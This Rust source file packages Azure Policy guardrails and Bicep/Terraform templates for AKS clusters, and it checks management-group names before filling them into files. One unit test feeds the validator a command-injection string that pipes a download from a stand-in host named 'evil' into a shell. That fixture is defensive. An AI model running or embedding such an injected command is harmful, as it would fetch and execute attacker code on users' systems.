//! Guardrails to take away: Azure Policy definitions, an initiative and templates, as files. Nothing is ever applied.

/// One Azure Policy definition, in the shape in which Azure publishes them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Guardrail {
    /// The name of the definition, and of its file.
    pub name: &'static str,
    pub title: &'static str,
    /// What it reports, in one sentence.
    pub what: &'static str,
    /// The rules that ask the same.
    pub rule_ids: &'static [&'static str],
    pub json: &'static str,
}

pub const GUARDRAILS: &[Guardrail] = &[
    Guardrail {
        name: "quaymaster-public-api-server",
        title: "AKS API servers should have no public endpoint",
        what: "Reports clusters that are not private.",
        rule_ids: &["EXP-02"],
        json: include_str!("../policies/quaymaster-public-api-server.json"),
    },
    Guardrail {
        name: "quaymaster-open-or-broad-ranges",
        title: "AKS API servers should let in narrow IP ranges only",
        what: "Reports public clusters without ranges, and those with a wide range or a service tag.",
        rule_ids: &["EXP-01", "EXP-03"],
        json: include_str!("../policies/quaymaster-open-or-broad-ranges.json"),
    },
    Guardrail {
        name: "quaymaster-run-command",
        title: "AKS clusters should have run command off",
        what: "Reports clusters on which run command is on.",
        rule_ids: &["EXP-06"],
        json: include_str!("../policies/quaymaster-run-command.json"),
    },
    Guardrail {
        name: "quaymaster-local-accounts",
        title: "AKS clusters should have local accounts off",
        what: "Reports clusters that accept the static admin certificate.",
        rule_ids: &["CRED-01"],
        json: include_str!("../policies/quaymaster-local-accounts.json"),
    },
    Guardrail {
        name: "quaymaster-service-principal",
        title: "AKS clusters should run as a managed identity",
        what: "Reports clusters that run as a service principal.",
        rule_ids: &["CRED-05"],
        json: include_str!("../policies/quaymaster-service-principal.json"),
    },
    Guardrail {
        name: "quaymaster-missing-tags",
        title: "AKS clusters should name their owner, team and cost centre",
        what: "Reports clusters on which one of the three is not named.",
        rule_ids: &["GOV-01", "GOV-02", "GOV-03"],
        json: include_str!("../policies/quaymaster-missing-tags.json"),
    },
    Guardrail {
        name: "quaymaster-trusted-access-any",
        title: "Trusted Access bindings should be known",
        what: "Reports every binding; off until it is turned on. That Azure evaluates the type is unproven.",
        rule_ids: &["GOV-07"],
        json: include_str!("../policies/quaymaster-trusted-access-any.json"),
    },
    Guardrail {
        name: "quaymaster-trusted-access-roles",
        title: "Trusted Access bindings should hold allowed roles only",
        what: "Reports bindings with a role that is not on the list. Azure, which publishes no alias for it, may refuse it.",
        rule_ids: &["TA-02", "GOV-07"],
        json: include_str!("../policies/quaymaster-trusted-access-roles.json"),
    },
];

const INITIATIVE: &str = include_str!("../policies/initiative.json");
const README: &str = include_str!("../policies/README.md");
const NOTE: &str = include_str!("../policies/vault-without-binding.md");

/// A folder each: all files of Terraform in one folder are one module.
const TEMPLATES: [(&str, &str); 4] = [
    ("templates/backup-vault/main.bicep", include_str!("../templates/backup-vault/main.bicep")),
    ("templates/backup-vault/main.tf", include_str!("../templates/backup-vault/main.tf")),
    ("templates/ml-workspace/main.bicep", include_str!("../templates/ml-workspace/main.bicep")),
    ("templates/ml-workspace/main.tf", include_str!("../templates/ml-workspace/main.tf")),
];

/// Stands in the initiative and the README until a management group is named.
const PLACEHOLDER: &str = "{managementGroup}";

/// Stands there when what was named can be none.
const UNNAMED: &str = "MANAGEMENT_GROUP";

/// Everything to deploy, as paths and texts. `management_group` is the one that will hold the definitions.
pub fn guardrail_files(management_group: &str) -> Vec<(String, String)> {
    let group = if is_management_group(management_group) { management_group } else { UNNAMED };
    let mut files = vec![("README.md".to_owned(), README.replace(PLACEHOLDER, group))];
    for guardrail in GUARDRAILS {
        files.push((format!("policies/{}.json", guardrail.name), guardrail.json.to_owned()));
    }
    files.push(("policies/initiative.json".to_owned(), INITIATIVE.replace(PLACEHOLDER, group)));
    files.push(("policies/vault-without-binding.md".to_owned(), NOTE.to_owned()));
    files.extend(TEMPLATES.iter().map(|(path, text)| ((*path).to_owned(), (*text).to_owned())));
    files
}

/// The letters Azure allows in the id of a management group; anything else could end a text in JSON or in a shell.
fn is_management_group(name: &str) -> bool {
    const LONGEST: usize = 90;
    let allowed = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '(' | ')' | '.');
    !name.is_empty() && name.len() <= LONGEST && name.chars().all(allowed)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file(files: &[(String, String)], path: &str) -> String {
        files.iter().find(|(known, _)| known == path).map(|(_, text)| text.clone()).unwrap_or_default()
    }

    #[test]
    fn every_file_is_there_and_the_group_is_filled_in() {
        let files = guardrail_files("corp-1");
        assert_eq!(files.len(), GUARDRAILS.len() + 7);
        assert!(files.iter().all(|(_, text)| !text.is_empty() && !text.contains(PLACEHOLDER)));
        let initiative = file(&files, "policies/initiative.json");
        assert!(initiative.contains("/managementGroups/corp-1/providers/"), "{initiative}");
        assert!(file(&files, "README.md").contains("group='corp-1'"));
    }

    #[test]
    fn a_folder_of_templates_is_one_module_that_names_its_binding_after_the_source() {
        let mut declared = std::collections::BTreeSet::new();
        for (path, text) in TEMPLATES {
            let folder = path.rsplit_once('/').map_or("", |(folder, _)| folder);
            for line in text.lines().filter(|line| line.starts_with("variable ") || line.starts_with("data ")) {
                assert!(declared.insert((folder, line)), "{path} declares a second {line}");
            }
            let source = if folder.ends_with("backup-vault") {
                ["vaultName", "vault_name"]
            } else {
                ["workspaceName", "workspace_name"]
            };
            let named = |line: &&str| {
                line.starts_with("param bindingName")
                    || line.trim_start().starts_with("binding_name = coalesce(")
                    || line.trim_start().starts_with("short_name")
            };
            assert!(text.lines().filter(named).any(|line| source.iter().any(|name| line.contains(name))), "{path}");
            assert!(text.contains("As a module:"), "{path}");
        }
    }

    #[test]
    fn what_can_be_no_management_group_is_not_filled_in() {
        for name in ["", "a\"b", "x'; curl evil | sh '", "a/b", "a\nb"] {
            let files = guardrail_files(name);
            assert!(file(&files, "README.md").contains("group='MANAGEMENT_GROUP'"), "{name:?}");
            assert!(
                file(&files, "policies/initiative.json").contains("/managementGroups/MANAGEMENT_GROUP/"),
                "{name:?}"
            );
        }
    }
}
